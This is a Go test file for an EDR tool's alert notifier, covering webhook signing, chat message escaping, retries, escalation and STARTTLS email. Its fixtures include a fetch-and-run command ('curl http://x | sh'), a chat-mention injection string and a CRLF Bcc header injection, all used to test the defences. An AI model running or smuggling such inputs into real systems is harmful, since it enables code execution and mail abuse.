package notify_test

import (
	"context"
	"crypto/x509"
	"encoding/json"
	"errors"
	"io"
	"mime"
	"mime/quotedprintable"
	"net/http"
	"net/http/httptest"
	"net/mail"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigil-edr/vigil/internal/alert"
	"github.com/vigil-edr/vigil/internal/event"
	"github.com/vigil-edr/vigil/internal/notify"
	"github.com/vigil-edr/vigil/internal/store/sqlite"
)

// loopback opens the test receivers (which listen on 127.0.0.1) through
// the allow-list; without it they are blocked like any loopback address.
var loopback = []string{"127.0.0.1/32"}

// env is a real SQLite database, the alert processor writing to it, and a
// running Notifier reading from it.
type env struct {
	t    *testing.T
	path string
	db   *sqlite.DB
	proc *alert.Processor
	n    *notify.Notifier
	stop func()
}

func openDB(t *testing.T, path string) *sqlite.DB {
	t.Helper()
	db, err := sqlite.Open(context.Background(), path, sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return db
}

func newEnv(t *testing.T, mutate ...func(*notify.Options)) *env {
	t.Helper()
	e := &env{t: t, path: filepath.Join(t.TempDir(), "vigil.db")}
	e.db = openDB(t, e.path)
	e.proc = alert.NewProcessor(alert.Options{Store: e.db})
	e.start(mutate...)
	t.Cleanup(func() {
		e.stop()
		e.db.Close()
	})
	return e
}

// start runs a Notifier over e.db until stop.
func (e *env) start(mutate ...func(*notify.Options)) {
	e.t.Helper()
	opts := notify.Options{Store: e.db, Allow: loopback, Poll: 20 * time.Millisecond, Backoff: 20 * time.Millisecond,
		MaxBackoff: 80 * time.Millisecond, Timeout: 2 * time.Second}
	for _, m := range mutate {
		m(&opts)
	}
	n, err := notify.New(opts)
	if err != nil {
		e.t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { defer close(done); n.Run(ctx) }()
	e.n = n
	e.stop = func() { cancel(); <-done; e.stop = func() {} }
}

// restart stops the notifier, closes and reopens the database, and starts a
// new notifier: what a process restart does.
func (e *env) restart(mutate ...func(*notify.Options)) {
	e.t.Helper()
	e.stop()
	must(e.t, e.db.Close())
	e.db = openDB(e.t, e.path)
	e.proc = alert.NewProcessor(alert.Options{Store: e.db})
	e.start(mutate...)
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// waitFor polls cond until it holds or the deadline passes.
func waitFor(t *testing.T, d time.Duration, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(d)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out after %v waiting for %s", d, what)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// finding is an alert-worthy rule match.
func finding(title, level, host string, tags ...string) alert.Finding {
	return alert.Finding{RuleID: "rule-" + strings.ReplaceAll(title, " ", "-"), RuleTitle: title, Level: level, Tags: tags,
		Host: host, AgentID: "agent-1", Time: time.Now().UTC(), EventIDs: []int64{1},
		Fields: []event.Field{{Name: "CommandLine", Value: "bash -c 'curl http://x | sh'"}}}
}

func (e *env) record(f alert.Finding) int64 {
	e.t.Helper()
	id, _, err := e.proc.Record(context.Background(), f)
	must(e.t, err)
	e.n.Wake()
	return id
}

// request is what a receiver got.
type request struct {
	Header http.Header
	Body   []byte
	At     time.Time
}

// receiver is a real HTTP server that records requests and can fail the
// first N of them with a status.
type receiver struct {
	srv      *httptest.Server
	mu       sync.Mutex
	reqs     []request
	failN    int
	failWith int
	always   int // non-zero: answer every request with this status
}

func newReceiver(t *testing.T) *receiver {
	t.Helper()
	r := &receiver{failWith: http.StatusServiceUnavailable}
	r.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		b, _ := io.ReadAll(req.Body)
		r.mu.Lock()
		r.reqs = append(r.reqs, request{Header: req.Header.Clone(), Body: b, At: time.Now()})
		n, fail, always := len(r.reqs), r.failN, r.always
		r.mu.Unlock()
		switch {
		case always != 0:
			w.WriteHeader(always)
		case n <= fail:
			w.WriteHeader(r.failWith)
		default:
			w.WriteHeader(http.StatusNoContent)
		}
	}))
	t.Cleanup(r.srv.Close)
	return r
}

func (r *receiver) url() string { return r.srv.URL + "/hook?token=abc" }

func (r *receiver) got() []request {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]request(nil), r.reqs...)
}

func (r *receiver) count() int { return len(r.got()) }

const secret = "s3cret-s3cret-s3cret"

func (e *env) channel(c notify.Channel) int64 {
	e.t.Helper()
	c.Enabled = true
	if c.Name == "" {
		c.Name = string(c.Kind)
	}
	must(e.t, e.n.CreateChannel(context.Background(), &c))
	return c.ID
}

func (e *env) route(r notify.Route) int64 {
	e.t.Helper()
	r.Enabled = true
	if r.Name == "" {
		r.Name = "route"
	}
	must(e.t, e.n.CreateRoute(context.Background(), &r))
	return r.ID
}

func TestWebhookSignedDelivery(t *testing.T) {
	e := newEnv(t)
	rcv := newReceiver(t)
	ch := e.channel(notify.Channel{Kind: notify.KindWebhook, URL: rcv.url(), Secret: secret})
	e.route(notify.Route{MinLevel: "high", Channels: []int64{ch}})

	e.record(finding("Low thing", "low", "h1"))
	id := e.record(finding("Reverse shell", "critical", "web-01", "attack.t1059"))
	waitFor(t, 5*time.Second, "the webhook", func() bool { return rcv.count() >= 1 })
	// The low alert must not follow: wait until the change feed is drained.
	waitFor(t, 5*time.Second, "routing", func() bool { return e.n.Stats().Routed >= 2 })
	got := rcv.got()
	if len(got) != 1 {
		t.Fatalf("receiver got %d requests, want 1 (the low alert is below the route's level)", len(got))
	}
	req := got[0]
	// Verify as a receiver does: over the raw bytes, with the shared secret.
	if err := notify.VerifySignature([]byte(secret), req.Header.Get("X-Vigil-Timestamp"), req.Header.Get("X-Vigil-Signature"),
		req.Body, time.Now(), 5*time.Minute); err != nil {
		t.Fatalf("signature: %v (headers %v)", err, req.Header)
	}
	if err := notify.VerifySignature([]byte("wrong-secret-wrong"), req.Header.Get("X-Vigil-Timestamp"), req.Header.Get("X-Vigil-Signature"),
		req.Body, time.Now(), 5*time.Minute); err == nil {
		t.Fatal("a wrong secret verified")
	}
	tampered := append([]byte(nil), req.Body...)
	tampered[len(tampered)/2] ^= 1
	if err := notify.VerifySignature([]byte(secret), req.Header.Get("X-Vigil-Timestamp"), req.Header.Get("X-Vigil-Signature"),
		tampered, time.Now(), 5*time.Minute); err == nil {
		t.Fatal("a tampered body verified")
	}
	if err := notify.VerifySignature([]byte(secret), req.Header.Get("X-Vigil-Timestamp"), req.Header.Get("X-Vigil-Signature"),
		req.Body, time.Now().Add(time.Hour), 5*time.Minute); err == nil {
		t.Fatal("an hour-old signature verified (replay)")
	}
	var body notify.WebhookBody
	must(t, json.Unmarshal(req.Body, &body))
	if body.Version != 1 || body.Event != notify.EventCreated || body.Alert.ID != id || body.Alert.RuleTitle != "Reverse shell" ||
		body.Alert.Host != "web-01" || body.Alert.Level != "critical" || len(body.Alert.Fields) != 1 || body.DeliveryID == 0 {
		t.Errorf("body %+v", body)
	}
	if req.Header.Get("X-Vigil-Event") != "alert.created" || req.Header.Get("X-Vigil-Delivery") == "" ||
		req.Header.Get("Content-Type") != "application/json" {
		t.Errorf("headers %v", req.Header)
	}
	waitFor(t, 5*time.Second, "the delivery to be marked sent", func() bool {
		ds, err := e.db.Deliveries(context.Background(), 10)
		return err == nil && len(ds) == 1 && ds[0].State == notify.DeliverySent && ds[0].Attempts == 1
	})
}

func TestChatFormats(t *testing.T) {
	e := newEnv(t)
	title := "Evil <!channel> *bold* @here [x](http://evil.example)"
	kinds := []notify.Kind{notify.KindSlack, notify.KindTeams, notify.KindMattermost}
	rcvs := map[notify.Kind]*receiver{}
	var chans []int64
	for _, k := range kinds {
		rcvs[k] = newReceiver(t)
		chans = append(chans, e.channel(notify.Channel{Kind: k, URL: rcvs[k].url()}))
	}
	e.route(notify.Route{Channels: chans})
	e.record(finding(title, "high", "db-7"))
	for _, k := range kinds {
		waitFor(t, 5*time.Second, string(k), func() bool { return rcvs[k].count() == 1 })
		b := rcvs[k].got()[0].Body
		var v map[string]any
		if err := json.Unmarshal(b, &v); err != nil {
			t.Fatalf("%s: not JSON: %v", k, err)
		}
		s := string(b)
		text := chatText(t, k, b) // what the user reads, escapes undone
		switch k {
		case notify.KindSlack:
			if strings.Contains(s, "<!channel>") || strings.Contains(s, `\u003c`) || v["mrkdwn"] != false {
				t.Errorf("slack body not escaped: %s", s)
			}
		case notify.KindTeams, notify.KindMattermost:
			if strings.Contains(s, "*bold*") || strings.Contains(s, "[x](") || strings.Contains(s, "@here") {
				t.Errorf("%s body not escaped: %s", k, s)
			}
		}
		if !strings.Contains(text, title) || !strings.Contains(text, "db-7") {
			t.Errorf("%s: the reader does not see the title and host: %q", k, text)
		}
	}
}

// chatText extracts every text string of a chat body and undoes the
// format's escaping, giving what a reader sees.
func chatText(t *testing.T, k notify.Kind, b []byte) string {
	t.Helper()
	var v any
	must(t, json.Unmarshal(b, &v))
	var parts []string
	var walk func(any)
	walk = func(x any) {
		switch x := x.(type) {
		case map[string]any:
			for _, e := range x {
				walk(e)
			}
		case []any:
			for _, e := range x {
				walk(e)
			}
		case string:
			parts = append(parts, x)
		}
	}
	walk(v)
	s := strings.Join(parts, "\n")
	if k == notify.KindSlack {
		return strings.NewReplacer("&lt;", "<", "&gt;", ">", "&amp;", "&").Replace(s)
	}
	return mdUnescape(s)
}

// mdUnescape undoes CommonMark backslash escapes and drops zero-width spaces.
func mdUnescape(s string) string {
	var out strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) && s[i+1] < 0x80 && strings.IndexByte("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~", s[i+1]) >= 0 {
			i++
		}
		out.WriteByte(s[i])
	}
	return strings.ReplaceAll(out.String(), "\u200b", "")
}

func TestRetryWithBackoff(t *testing.T) {
	e := newEnv(t, func(o *notify.Options) { o.Jitter = func() float64 { return 0 } }) // the lower bound: Backoff·2^(n-1)/2
	rcv := newReceiver(t)
	rcv.failN = 3
	ch := e.channel(notify.Channel{Kind: notify.KindWebhook, URL: rcv.url(), Secret: secret})
	e.route(notify.Route{Channels: []int64{ch}})
	e.record(finding("Flaky receiver", "high", "h"))
	waitFor(t, 5*time.Second, "the fourth attempt", func() bool { return rcv.count() == 4 })
	got := rcv.got()
	id := got[0].Header.Get("X-Vigil-Delivery")
	for i, r := range got {
		if r.Header.Get("X-Vigil-Delivery") != id {
			t.Errorf("attempt %d has delivery id %q, want %q (the same on every retry)", i, r.Header.Get("X-Vigil-Delivery"), id)
		}
		if i > 0 {
			// 20 ms doubling, halved by the zero jitter: ≥ 10, 20, 40 ms.
			min := (20 * time.Millisecond << (i - 1)) / 2
			if gap := r.At.Sub(got[i-1].At); gap < min {
				t.Errorf("attempt %d came %v after the previous one, want ≥ %v", i, gap, min)
			}
		}
	}
	waitFor(t, 5*time.Second, "sent after 4 attempts", func() bool {
		ds, _ := e.db.Deliveries(context.Background(), 10)
		return len(ds) == 1 && ds[0].State == notify.DeliverySent && ds[0].Attempts == 4
	})
	if st := e.n.Stats(); st.Retried != 3 || st.Sent != 1 {
		t.Errorf("stats %+v", st)
	}
}

func TestGiveUp(t *testing.T) {
	cases := []struct {
		name     string
		status   int
		attempts int
	}{
		{"permanent 400 stops at once", http.StatusBadRequest, 1},
		{"redirects are never followed", http.StatusFound, 1},
		{"500 until MaxAttempts", http.StatusInternalServerError, 3},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			e := newEnv(t, func(o *notify.Options) { o.MaxAttempts = 3 })
			rcv := newReceiver(t)
			rcv.always = c.status
			ch := e.channel(notify.Channel{Kind: notify.KindWebhook, URL: rcv.url(), Secret: secret})
			e.route(notify.Route{Channels: []int64{ch}})
			e.record(finding("Doomed", "high", "h"))
			waitFor(t, 5*time.Second, "the delivery to fail", func() bool {
				ds, _ := e.db.Deliveries(context.Background(), 10)
				return len(ds) == 1 && ds[0].State == notify.DeliveryFailed
			})
			ds, _ := e.db.Deliveries(context.Background(), 10)
			if ds[0].Attempts != c.attempts || rcv.count() != c.attempts || !strings.Contains(ds[0].LastError, "answered") {
				t.Errorf("delivery %+v after %d requests, want %d attempts", ds[0], rcv.count(), c.attempts)
			}
		})
	}
}

func TestEscalation(t *testing.T) {
	e := newEnv(t)
	first, second := newReceiver(t), newReceiver(t)
	c1 := e.channel(notify.Channel{Kind: notify.KindWebhook, URL: first.url(), Secret: secret})
	c2 := e.channel(notify.Channel{Kind: notify.KindWebhook, URL: second.url(), Secret: secret, Name: "on-call"})
	e.route(notify.Route{Channels: []int64{c1}, EscalateAfter: 300 * time.Millisecond, EscalateTo: []int64{c2}})

	ignored := e.record(finding("Nobody looks", "high", "h1"))
	handled := e.record(finding("Someone looks", "high", "h2"))
	must(t, e.proc.Transition(context.Background(), handled, alert.StateAcknowledged, "alice", ""))
	start := time.Now()
	waitFor(t, 5*time.Second, "the escalation", func() bool { return second.count() >= 1 })
	if d := time.Since(start); d < 200*time.Millisecond {
		t.Errorf("escalated after %v, before the 300 ms", d)
	}
	// Both escalations are consumed once due; only the ignored alert's fires.
	waitFor(t, 5*time.Second, "both escalations handled", func() bool {
		due, err := e.db.DueEscalations(context.Background(), time.Now().Add(time.Hour), 10)
		return err == nil && len(due) == 0
	})
	waitFor(t, 5*time.Second, "sent", func() bool { return e.n.Stats().Sent == 3 })
	got := second.got()
	if len(got) != 1 {
		t.Fatalf("on-call got %d messages, want 1", len(got))
	}
	var body notify.WebhookBody
	must(t, json.Unmarshal(got[0].Body, &body))
	if body.Event != notify.EventEscalated || body.Alert.ID != ignored {
		t.Errorf("escalation body %+v", body)
	}
	if first.count() != 2 {
		t.Errorf("first channel got %d messages, want 2 (both alerts)", first.count())
	}
}

func TestStateChangeNotification(t *testing.T) {
	e := newEnv(t)
	rcv := newReceiver(t)
	ch := e.channel(notify.Channel{Kind: notify.KindWebhook, URL: rcv.url(), Secret: secret})
	e.route(notify.Route{Channels: []int64{ch}, OnStateChange: true})
	id := e.record(finding("Watch me", "medium", "h"))
	must(t, e.proc.Transition(context.Background(), id, alert.StateAcknowledged, "bob", ""))
	e.n.Wake()
	waitFor(t, 5*time.Second, "two messages", func() bool { return rcv.count() == 2 })
	var body notify.WebhookBody
	must(t, json.Unmarshal(rcv.got()[1].Body, &body))
	if body.Event != notify.EventState || body.Change == nil || body.Change.To != alert.StateAcknowledged || body.Change.By != "bob" {
		t.Errorf("state body %+v", body)
	}
}

func TestOutboxSurvivesRestart(t *testing.T) {
	e := newEnv(t)
	rcv := newReceiver(t)
	rcv.always = http.StatusServiceUnavailable
	ch := e.channel(notify.Channel{Kind: notify.KindWebhook, URL: rcv.url(), Secret: secret})
	e.route(notify.Route{Channels: []int64{ch}})
	e.record(finding("Before the crash", "high", "h"))
	waitFor(t, 5*time.Second, "a failed attempt", func() bool { return rcv.count() >= 1 })

	// An alert recorded while no notifier runs is in the change feed.
	e.stop()
	_, _, err := e.proc.Record(context.Background(), finding("While down", "high", "h"))
	must(t, err)

	rcv.mu.Lock()
	rcv.always = 0
	rcv.mu.Unlock()
	e.restart()
	waitFor(t, 5*time.Second, "both alerts after the restart", func() bool {
		titles := map[string]bool{}
		for _, r := range rcv.got() {
			var b notify.WebhookBody
			if json.Unmarshal(r.Body, &b) == nil && r.Header.Get("X-Vigil-Signature") != "" {
				titles[b.Alert.RuleTitle] = true
			}
		}
		return titles["Before the crash"] && titles["While down"]
	})
}

func TestSendTest(t *testing.T) {
	e := newEnv(t)
	ok, bad := newReceiver(t), newReceiver(t)
	bad.always = http.StatusInternalServerError
	c1 := e.channel(notify.Channel{Kind: notify.KindMattermost, URL: ok.url()})
	c2 := e.channel(notify.Channel{Kind: notify.KindWebhook, URL: bad.url(), Secret: secret})
	ctx := context.Background()
	if err := e.n.SendTest(ctx, c1); err != nil {
		t.Fatalf("test to a working channel: %v", err)
	}
	if ok.count() != 1 || !strings.Contains(string(ok.got()[0].Body), "test notification") {
		t.Errorf("test message %q", ok.got())
	}
	err := e.n.SendTest(ctx, c2)
	var se *notify.SendError
	if !errors.As(err, &se) || !strings.Contains(se.Msg, "500") || strings.Contains(se.Msg, "token=abc") {
		t.Errorf("test to a failing channel: %v", err)
	}
}

func TestEmailSTARTTLS(t *testing.T) {
	cert, pool := testCert(t)
	smtpd := newSMTPServer(t, cert, true, "vigil", "mail-pass")
	e := newEnv(t, func(o *notify.Options) { o.RootCAs = pool })
	ch := e.channel(notify.Channel{Kind: notify.KindEmail, SMTPAddr: smtpd.addr(), Username: "vigil", Password: "mail-pass",
		From: "Vigil <vigil@example.org>", To: []string{"soc@example.org", "oncall@example.org"}})
	e.route(notify.Route{Channels: []int64{ch}})
	e.record(finding("Header\r\nBcc: victim@evil.example\r\n\r\ninjected body", "high", "mail-host"))
	waitFor(t, 10*time.Second, "the email", func() bool { return len(smtpd.messages()) == 1 })
	m := smtpd.messages()[0]
	if !m.TLS || m.AuthUser != "vigil" || len(m.To) != 2 {
		t.Fatalf("message %+v: want TLS, authenticated as vigil, 2 recipients", m)
	}
	msg := parseMail(t, m.Data)
	if msg.Header.Get("Bcc") != "" || len(msg.Header["Bcc"]) != 0 {
		t.Errorf("header injection: Bcc %q", msg.Header["Bcc"])
	}
	if !strings.Contains(msg.subject, "Bcc: victim@evil.example") || strings.ContainsAny(msg.subject, "\r\n") {
		t.Errorf("subject %q", msg.subject)
	}
	if !strings.Contains(msg.body, "Host: mail-host") {
		t.Errorf("body %q", msg.body)
	}
	if smtpd.plainAuths() != 0 {
		t.Error("credentials were offered before STARTTLS")
	}
}

func TestEmailRefusesWithoutSTARTTLS(t *testing.T) {
	cert, pool := testCert(t)
	smtpd := newSMTPServer(t, cert, false, "vigil", "mail-pass")
	e := newEnv(t, func(o *notify.Options) { o.RootCAs = pool })
	ch := e.channel(notify.Channel{Kind: notify.KindEmail, SMTPAddr: smtpd.addr(), Username: "vigil", Password: "mail-pass",
		From: "vigil@example.org", To: []string{"soc@example.org"}})
	err := e.n.SendTest(context.Background(), ch)
	if err == nil || !strings.Contains(err.Error(), "STARTTLS") {
		t.Fatalf("send without STARTTLS: %v", err)
	}
	if len(smtpd.messages()) != 0 || smtpd.plainAuths() != 0 {
		t.Errorf("a message (%d) or credentials (%d) went over plain text", len(smtpd.messages()), smtpd.plainAuths())
	}
	// An explicit local relay without TLS (and so without credentials) works.
	relay := e.channel(notify.Channel{Kind: notify.KindEmail, SMTPAddr: newSMTPServer(t, cert, false, "", "").addr(),
		SMTPTLS: notify.TLSNone, From: "vigil@example.org", To: []string{"soc@example.org"}})
	must(t, e.n.SendTest(context.Background(), relay))
	// An untrusted certificate is refused.
	e2 := newEnv(t, func(o *notify.Options) { o.RootCAs = x509.NewCertPool() })
	smtpd2 := newSMTPServer(t, cert, true, "", "")
	ch2 := e2.channel(notify.Channel{Kind: notify.KindEmail, SMTPAddr: smtpd2.addr(), From: "vigil@example.org", To: []string{"soc@example.org"}})
	if err := e2.n.SendTest(context.Background(), ch2); err == nil || len(smtpd2.messages()) != 0 {
		t.Errorf("an untrusted STARTTLS certificate was accepted: %v", err)
	}
}

// parseMail reads an RFC 5322 message as a mail client would.
func parseMail(t *testing.T, data string) struct {
	Header  mail.Header
	subject string
	body    string
} {
	t.Helper()
	m, err := mail.ReadMessage(strings.NewReader(data))
	if err != nil {
		t.Fatalf("unparsable message: %v\n%s", err, data)
	}
	subj, err := new(mime.WordDecoder).DecodeHeader(m.Header.Get("Subject"))
	if err != nil {
		t.Fatalf("subject %q: %v", m.Header.Get("Subject"), err)
	}
	b, err := io.ReadAll(quotedprintable.NewReader(m.Body))
	if err != nil {
		t.Fatalf("body: %v", err)
	}
	return struct {
		Header  mail.Header
		subject string
		body    string
	}{m.Header, subj, string(b)}
}
